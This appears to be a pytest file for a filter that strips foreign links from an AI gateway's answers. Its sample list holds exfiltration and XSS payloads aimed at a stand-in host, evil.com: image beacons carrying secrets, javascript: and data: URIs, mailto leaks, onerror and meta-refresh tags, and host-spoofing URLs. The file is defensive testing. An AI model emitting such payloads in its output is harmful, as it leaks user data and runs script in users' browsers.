"""Links in answers."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.stages.guard.links import LinkRules, without_foreign_links

RULES = LinkRules(frozenset({"docs.example.org", "*.trusted.example"}))

FOREIGN = [
    "See [the manual](https://evil.com/x?q=1).",
    'See [the manual]( <https://evil.com/a b> "title" ).',
    "![pixel](https://evil.com/p.png?d=secret)",
    "[![badge](https://evil.com/b.svg)](https://evil.com/x)",
    "See [the manual][m].\n\n[m]: https://evil.com/x 'The manual'",
    "See [m].\n\n[m]:\n  <https://evil.com/x>",
    "See <https://evil.com/x>.",
    "Write to <thief@evil.com>.",
    "Go to https://evil.com/x, now.",
    "Go to HTTPS://EVIL.com/x now.",
    "Go to www.evil.com now.",
    "Go to evil.com/path now.",
    "Download it from freegame.com.",
    "Go to //evil.com/x now.",
    "[a](//evil.com/x)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(document.cookie)",
    "mailto:thief@evil.com?body=secret",
    "ftp://evil.com/x",
    '<a href="https://evil.com/x">here</a>',
    "<img src=https://evil.com/p.png onerror=alert(1)",
    "<IMG\nSRC='https://evil.com/p.png'>",
    "<svg><use href='https://evil.com/s.svg#x'/></svg>",
    "<form action=https://evil.com/x><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.com/'>",
    "<b style='background:url(https://evil.com/p)'>x</b>",
    "<!-- https://evil.com/x -->",
    "https://docs.example.org@evil.com/x",
    "https://docs.example.org\\@evil.com/x",
    "[a](https://docs.example.org.evil.com/x)",
    "label that was told before](https://evil.com/x)",
]
ACTIVE = re.compile(
    r"https?:|www\.|//\w|javascript|data:|mailto:|ftp:|evil\.com|freegame\.com|<\s*[a-z!]|\]\(|\]:", re.IGNORECASE
)


@pytest.mark.parametrize("text", FOREIGN)
def test_no_syntax_links_to_a_foreign_host(text: str) -> None:
    shown, removed = without_foreign_links(text, RULES)

    assert removed >= 1
    assert ACTIVE.search(shown) is None


@pytest.mark.parametrize("text", FOREIGN)
def test_what_was_made_plain_stays_as_it_is(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert without_foreign_links(shown, RULES) == (shown, 0)


@pytest.mark.parametrize(
    "text",
    [
        "See [the manual](https://docs.example.org/x#y) [1].",
        "See https://docs.example.org/x, and https://api.trusted.example/v2.",
        "See <https://docs.example.org/>.",
        "See [m].\n\n[m]: https://docs.example.org/x",
        "Set max_size in config.yaml to 4:3, see main.py and ASP.NET [2][3].",
        "A List<String> holds <name> and x < y, e.g. i.e. at 10:30 or 1.2.3.",
        "Call f(a)[1] and g[0].h(2), write to help@tarnwell.com [1].",
        "std::vector, key: value, note: this",
    ],
)
def test_allowed_links_and_ordinary_text_are_kept_to_the_letter(text: str) -> None:
    assert without_foreign_links(text, RULES) == (text, 0)


def test_an_address_stays_readable_without_being_a_link() -> None:
    shown, _ = without_foreign_links("The base address is https://api.tarnwell.example/v2. [1]", LinkRules(frozenset()))

    assert shown == "The base address is api[.]tarnwell[.]example/v2. [1]"


def test_a_star_allows_every_host_but_no_script() -> None:
    rules = LinkRules(frozenset({"*"}))

    assert without_foreign_links("https://any.example/x", rules)[1] == 0
    assert without_foreign_links("[a](javascript:alert(1))", rules)[1] == 1


@given(st.text(alphabet="ab.:/[]()<>!@ \n\\\"'=&#;wW", max_size=120))
def test_any_text_is_read_without_failing(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert not re.search(r"<a[\s/>][^<>]*>|<a>", shown, re.IGNORECASE)
    assert without_foreign_links(shown, RULES) == (shown, 0)


@pytest.mark.parametrize(
    "text", ["<scr<script>ipt>", "<<a >a href=x>", "<<!-- -->a href='//e'>", "<" * 500 + "a >" * 500]
)
def test_what_is_left_of_a_tag_is_none(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert not re.search(r"<(?:a|script)[\s/>]", shown)
